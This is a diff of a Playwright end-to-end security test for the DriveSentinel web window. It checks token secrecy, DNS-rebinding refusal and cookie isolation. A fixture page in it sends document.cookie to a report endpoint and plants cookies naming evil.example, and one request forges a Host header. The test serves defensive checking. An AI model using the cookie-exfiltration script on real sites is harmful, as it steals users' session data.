@@ -1,67 +1,50 @@
 // End-to-end test of the DriveSentinel window in headless Chromium.
 // usage: node shell_e2e.mjs PATH/TO/drivesentinel ARTEFACT_FOLDER
-import { spawn } from 'node:child_process';
-import fs from 'node:fs';
 import http from 'node:http';
-import os from 'node:os';
 import path from 'node:path';
-import { chromium } from 'playwright-core';
+import {
+  check, commandLine, exitCode, fail, finish, launchBrowser, makeHome, openWindow,
+  programAddress, removeHome, sleep, startProgram, stopProgram, waitFor,
+} from './harness.mjs';
 
-const [program, artefacts] = process.argv.slice(2);
-if (!program || !artefacts) {
-  console.error('usage: node shell_e2e.mjs PATH/TO/drivesentinel ARTEFACT_FOLDER');
-  process.exit(2);
-}
-fs.mkdirSync(artefacts, { recursive: true });
+const [program, artefacts] = commandLine('shell_e2e.mjs', ['PATH/TO/drivesentinel', 'ARTEFACT_FOLDER']);
+const home = makeHome(program, {
+  ini: 'Loading_Time=1\nPE_Cycle_Limit=3000\nEnd_User_License_Agreement=data\\EULA.txt\n',
+});
 
-let failures = 0;
-function check(condition, what) {
-  if (condition) {
-    console.log(`ok   ${what}`);
-  } else {
-    failures += 1;
-    console.log(`FAIL ${what}`);
+// Another web service on this host, on another port, that the window visits: it records
+// every request and its page reports what it can read of the cookies and plants its own.
+const seen = [];
+const otherService = http.createServer((request, response) => {
+  seen.push({ url: request.url, headers: request.headers });
+  if (!request.url.startsWith('/page')) {
+    response.writeHead(204);
+    response.end();
+    return;
   }
-}
+  response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
+  response.end(`<!DOCTYPE html><title>another service</title><img src="/picture.png">
+<script>
+fetch('/report?cookie=' + encodeURIComponent(document.cookie));
+document.cookie = 'tool_page_host=evil.example; path=/';
+document.cookie = 'disk_sel=3; path=/';
+</script>`);
+});
 
-// A program folder of its own: the data folder and the ini file beside the executable.
-const home = fs.mkdtempSync(path.join(os.tmpdir(), 'ds-browser-'));
-fs.cpSync(path.join(path.dirname(program), 'data'), path.join(home, 'data'), { recursive: true });
-fs.writeFileSync(path.join(home, 'Norvik_DriveSentinel.ini'),
-  'Loading_Time=1\nPE_Cycle_Limit=3000\nEnd_User_License_Agreement=data\\EULA.txt\n');
-
-function start(args) {
-  const child = spawn(program, args, { stdio: ['ignore', 'pipe', 'pipe'] });
-  child.output = '';
-  child.errors = '';
-  child.stdout.on('data', (chunk) => { child.output += chunk; });
-  child.stderr.on('data', (chunk) => { child.errors += chunk; });
-  child.exited = new Promise((resolve) => child.on('exit', (code) => resolve(code)));
-  return child;
-}
-
-async function waitFor(predicate, what, timeout = 10000) {
-  const until = Date.now() + timeout;
-  while (Date.now() < until) {
-    const value = await predicate();
-    if (value) return value;
-    await new Promise((resolve) => setTimeout(resolve, 25));
-  }
-  throw new Error(`timed out waiting for ${what}`);
-}
-
-const server = start(['--demo', '--headless', '--port', '0', '--home', home]);
+const server = startProgram(program, ['--demo', '--headless', '--port', '0', '--home', home]);
 let browser;
 try {
-  const line = await waitFor(() => server.output.match(/^Norvik DriveSentinel: (http:\/\/127\.0\.0\.1:\d+\/\?token=[0-9a-f]+)$/m), 'the address line');
-  const address = line[1];
+  const address = await programAddress(server);
   const origin = new URL(address).origin;
+  const token = new URL(address).pathname.split('/')[1];
 
-  // Requests without the token are refused.
-  check((await fetch(origin + '/')).status === 403, 'the shell without token is refused');
-  check((await fetch(origin + '/data/empty.html')).status === 403, 'data without token is refused');
-  check((await fetch(origin + '/data/.input', { method: 'POST', body: 'type=button&id=1000' })).status === 403,
-    'inputs without token are refused');
+  // Nothing outside the secret segment is served.
+  check((await fetch(origin + '/')).status === 404, 'the server root is not found');
+  check((await fetch(origin + '/?token=' + token)).status === 404, 'a token in the query opens nothing');
+  check((await fetch(origin + '/data/empty.html')).status === 404, 'data outside the secret segment is not found');
+  check((await fetch(origin + '/data/.input', { method: 'POST', body: 'type=button&id=1000' })).status === 404,
+    'inputs outside the secret segment are not found');
+  check((await fetch(address + 'data/empty.html')).status === 200, 'data under the secret segment is served');
   const foreignHost = await new Promise((resolve) => {
     const request = http.get(address, { headers: { Host: 'evil.example' } }, (response) => {
       response.resume();
@@ -72,32 +55,19 @@ try {
   check(foreignHost === 403, 'a foreign Host is refused (DNS rebinding)');
 
   // A second instance on the same program folder ends at once, silently, with code 0.
-  const second = start(['--demo', '--headless', '--home', home]);
-  const secondCode = await Promise.race([second.exited, new Promise((r) => setTimeout(() => r('hung'), 5000))]);
+  const second = startProgram(program, ['--demo', '--headless', '--home', home]);
+  const secondCode = await exitCode(second, 5000);
   check(secondCode === 0 && second.output === '', `a second instance exits silently (code ${secondCode})`);
 
-  browser = await chromium.launch({
-    executablePath: '/usr/bin/chromium',
-    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking',
-      '--disable-component-update', '--no-first-run', '--disable-sync'],
-  });
-  const context = await browser.newContext({ viewport: { width: 1000, height: 700 }, acceptDownloads: true });
-  const page = await context.newPage();
-  await page.goto(address);
-  await page.waitForSelector('#window:not([hidden])', { timeout: 15000 });
-  await page.waitForFunction(() => document.getElementById('skin').dataset.ready === '1');
-  check(!page.url().includes('token='), 'the token leaves the address bar');
-  const box = await page.locator('#window').boundingBox();
+  browser = await launchBrowser();
+  const { context, page, box, click, pageId, frameSource, showFrame, openTab } = await openWindow(browser, address);
+  check((await context.cookies()).every((cookie) => !cookie.value.includes(token)), 'no cookie carries the token');
   check(box.width === 800 && box.height === 600, 'the window is 800 x 600');
-  const pageId = () => page.evaluate(() => Number(document.getElementById('window').dataset.page));
-  const frameSource = () => page.evaluate(() => document.getElementById('browser').getAttribute('src'));
   const homeShown = () => page.evaluate(() => !document.getElementById('home').classList.contains('hidden'));
   check(await homeShown(), 'the Home picture is shown at start');
   const corner = await page.evaluate(() => document.getElementById('skin').getContext('2d').getImageData(1, 1, 1, 1).data[3]);
   check(corner === 0, 'the green colour key of the skin is transparent');
   await page.screenshot({ path: path.join(artefacts, 'window-home.png'), clip: box });
-
-  const click = (x, y, options) => page.mouse.click(box.x + x, box.y + y, options);
 
   // Every tab, clicked at its pixel position, opens its page in the browser frame.
   const tabs = [[1005, 268, 41, 2], [1006, 368, 41, 3], [1007, 468, 41, 4], [1008, 568, 41, 5], [1009, 668, 41, 6]];
@@ -118,7 +88,7 @@ try {
   const inPage = await page.evaluate(async () => {
     const frame = document.getElementById('browser');
     const results = [];
-    for (const id of [1005, 1009, 1007, 1006, 1008, 1005, 1009, 1007, 1006, 1008]) {
+    for (const id of [1005, 1009, 1007, 1006, 1008, 1005, 1008, 1007, 1006, 1009]) {
       const before = frame.getAttribute('src');
       const started = performance.now();
       const changed = new Promise((resolve) => {
@@ -137,6 +107,7 @@ try {
   });
   inPage.sort((a, b) => a - b);
   console.log(`tab click to navigation in the page: median ${inPage[5].toFixed(1)} ms, max ${inPage[9].toFixed(1)} ms`);
+  await showFrame(/SystemPage\.html/);
   await page.screenshot({ path: path.join(artefacts, 'window-system-page.png'), clip: box });
 
   // Home button.
@@ -145,11 +116,10 @@ try {
   check(true, 'Home shows the Home picture again');
 
   // Right clicks open no context menu, in the window or in the page.
-  await click(268 + 50, 41 + 37);
-  await waitFor(async () => (await pageId()) === 2, 'disk information');
-  const framePrevented = await page.frameLocator('#browser').locator('body').evaluate((body) => {
+  const diskPage = await openTab(318, /disk_info_0_0\.html/);
+  const framePrevented = await diskPage.evaluate(() => {
     const event = new MouseEvent('contextmenu', { bubbles: true, cancelable: true, button: 2 });
-    return !body.dispatchEvent(event);
+    return !document.body.dispatchEvent(event);
   });
   check(framePrevented, 'a right click in the page opens no context menu');
   const shellPrevented = await page.evaluate(() => !document.getElementById('skin').dispatchEvent(
@@ -157,13 +127,49 @@ try {
   check(shellPrevented, 'a right click on the window opens no context menu');
   await click(400, 300, { button: 'right' });
 
+  // Another service on this host, visited from the window in every way a page can: it
+  // receives no token in any address, header or cookie and reads none of the page inputs.
+  await new Promise((resolve) => otherService.listen(0, '127.0.0.1', resolve));
+  const otherOrigin = `http://127.0.0.1:${otherService.address().port}`;
+  const inputCookie = `ds${token}_disk_sel`;
+  const stored = await waitFor(async () => (await context.cookies(address + 'data/')).find((c) => c.name === inputCookie),
+    'the drive choice of the Disk Information page');
+  check(stored.path === `/${token}/data/`, `the page input lives under the secret data folder (${stored.path})`);
+  await diskPage.evaluate((url) => {
+    fetch(url + '/from-page', { credentials: 'include', mode: 'no-cors' }).catch(() => {});
+    new Image().src = url + '/picture-from-page.png';
+  }, otherOrigin);
+  await page.evaluate((url) => fetch(url + '/from-shell', { credentials: 'include', mode: 'no-cors' }).catch(() => {}), otherOrigin);
+  const popup = context.waitForEvent('page', { timeout: 5000 });
+  await page.evaluate((url) => {
+    const link = document.createElement('a');
+    link.href = url + '/page-linked';
+    link.target = '_blank';
+    document.body.appendChild(link);
+    link.click();
+    link.remove();
+  }, otherOrigin);
+  await (await popup).waitForLoadState();
+  await diskPage.evaluate((url) => { window.location.href = url + '/page-in-frame'; }, otherOrigin);
+  await waitFor(() => seen.filter((request) => request.url.startsWith('/report')).length >= 2, 'the other pages\' reports');
+  await waitFor(() => ['/from-page', '/picture-from-page.png', '/from-shell'].every((url) => seen.some((request) => request.url === url)),
+    'the requests of the window');
+  const leaks = seen.filter((request) => JSON.stringify(request).includes(token));
+  check(leaks.length === 0, `another port receives no token (${seen.length} requests${leaks.length ? ': ' + JSON.stringify(leaks) : ''})`);
+  const reports = seen.filter((request) => request.url.startsWith('/report')).map((request) => decodeURIComponent(request.url));
+  check(reports.every((report) => !report.includes('disk_sel=0')), `a page on another port reads no page input (${reports.join(' | ')})`);
+  // Its planted cookies reach the window's requests too, and are ignored: the drive shown
+  // stays the first one.
+  await openTab(318, /disk_info_0_0\.html/);
+  check(true, 'a planted drive choice does not change the drive shown');
+
   // F2 with a wrong code does nothing.
   const internalVisible = () => page.evaluate(() => !document.querySelector('.button[data-id="1004"]').hidden);
   await page.keyboard.press('F2');
   await page.waitForSelector('.dialog[data-kind="password"]');
   await page.fill('#password-input', 'talvex');
   await page.click('.dialog[data-kind="password"] button[data-answer="ok"]');
-  await new Promise((resolve) => setTimeout(resolve, 400));
+  await sleep(400);
   check(!(await internalVisible()) && (await pageId()) === 2, 'a wrong access code does nothing');
 
   // F2 with "Talvex" shows button 1004 and the Internal page; F2 again leaves for Home.
@@ -173,6 +179,7 @@ try {
   await page.keyboard.press('Enter');
   await waitFor(async () => (await internalVisible()) && (await pageId()) === 1, 'the Internal page');
   check(true, 'F2 and Talvex show button 1004 and the Internal page');
+  await showFrame(/\/(?!loading\.html)[^/]+\.html/);
   await page.screenshot({ path: path.join(artefacts, 'window-internal.png'), clip: box });
   await page.keyboard.press('F2');
   await waitFor(async () => !(await internalVisible()) && (await pageId()) === 0, 'leaving internal mode');
@@ -180,7 +187,7 @@ try {
 
   // A second shell sees the same window.
   const other = await context.newPage();
-  await other.goto(origin + '/');
+  await other.goto(address);
   await other.waitForSelector('#window:not([hidden])');
   await click(668 + 50, 41 + 37);
   await waitFor(() => other.evaluate(() => document.getElementById('window').dataset.page === '6'), 'the second shell following');
@@ -193,16 +200,16 @@ try {
   await page.waitForSelector('#tray-icon:not([hidden])');
   check((await page.title()).includes('running in the background'), 'the tab title says the program runs in the background');
   await page.click('#tray-icon', { button: 'right' });
-  await new Promise((resolve) => setTimeout(resolve, 300));
+  await sleep(300);
   check(await page.evaluate(() => document.getElementById('window').hidden), 'a right click on the icon does nothing');
   await page.click('#tray-icon');
   await page.waitForSelector('#window:not([hidden])');
   check(await page.evaluate(() => document.getElementById('tray-icon').hidden), 'a left click restores the window and removes the icon');
 
   // The licence text opens in a new tab.
-  const popup = context.waitForEvent('page', { timeout: 5000 }).catch(() => null);
+  const licencePopup = context.waitForEvent('page', { timeout: 5000 }).catch(() => null);
   await click(678 + 17, 17);
-  const licence = await popup;
+  const licence = await licencePopup;
   if (licence) await licence.waitForLoadState();
   check(licence && (await licence.content()).includes('End User License Agreement'), 'the licence text opens in a new tab');
 
@@ -212,35 +219,27 @@ try {
     const bodies = ['type=mousedown&button=0&x=1&y=1', 'type=button&id=424242', 'type=mousedown&button=0&x=99999&y=-5',
       'type=nonsense', 'type=button&id=1e9', '%%%'];
     for (let i = 0; i < 300; i += 1) {
-      const response = await fetch('/data/.input', { method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: bodies[i % bodies.length] });
+      const response = await fetch('data/.input', { method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: bodies[i % bodies.length] });
       statuses.push(response.status);
     }
     return statuses;
   });
   check(flood.every((status) => [204, 400, 503].includes(status)), 'a flood of inputs gets clear answers');
-  check((await (await page.request.get(origin + '/data/empty.html')).status()) === 200, 'the program still answers after the flood');
+  check((await (await page.request.get(address + 'data/empty.html')).status()) === 200, 'the program still answers after the flood');
 
   // Close ends the program with code 0 and the shell says so.
   await click(746 + 17, 17);
   await page.waitForSelector('#ended:not([hidden])', { timeout: 10000 });
   check(true, 'the shell says the program has ended');
-  const code = await Promise.race([server.exited, new Promise((r) => setTimeout(() => r('hung'), 10000))]);
+  const code = await exitCode(server, 10000);
   check(code === 0, `the program exits with code 0 (got ${code})`);
 } catch (error) {
-  failures += 1;
-  console.log(`FAIL ${error.stack || error}`);
+  fail(error);
   console.log(server.errors);
 } finally {
   if (browser) await browser.close();
-  if (server.exitCode === null) {
-    server.kill('SIGTERM');
-    await Promise.race([server.exited, new Promise((r) => setTimeout(r, 5000))]);
-  }
-  try {
-    fs.rmSync(home, { recursive: true, force: true });
-  } catch (error) {
-    console.log(`note: could not remove ${home}: ${error.message}`);
-  }
+  otherService.close();
+  await stopProgram(server);
+  removeHome(home);
 }
-console.log(failures === 0 ? 'all browser checks passed' : `${failures} browser checks failed`);
-process.exit(failures === 0 ? 0 : 1);
+finish('browser checks');
